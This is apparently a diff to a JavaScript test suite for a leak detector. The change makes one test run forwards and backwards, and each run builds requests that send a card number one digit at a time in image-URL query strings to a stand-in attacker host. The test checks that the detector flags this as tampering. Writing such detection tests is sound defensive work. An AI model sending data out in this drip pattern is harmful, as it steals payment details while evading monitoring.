@@ -111,8 +111,11 @@ describe('canary-on-wire', () => {
     expect(verdict.reason.en).toMatch(/card number|expiry/i);
   });
 
-  test('one character a request, many requests', () => {
-    const drips = Array.from(NUMBER, (digit, i) => message(`${EVIL}/k.gif?t=${1000 + i}&k=${digit}`));
+  test.each([
+    ['forwards', Array.from(NUMBER)],
+    ['backwards', Array.from(NUMBER).toReversed()],
+  ])('one character a request, many requests, %s', (_, digits) => {
+    const drips = digits.map((digit, i) => message(`${EVIL}/k.gif?t=${1000 + i}&k=${digit}`));
     const { verdict, findings } = judge(drips);
     expect(verdict.kind).toBe('tampered');
     expect(leaksIn(findings)[0]?.leak?.encodings).toEqual(['drip']);
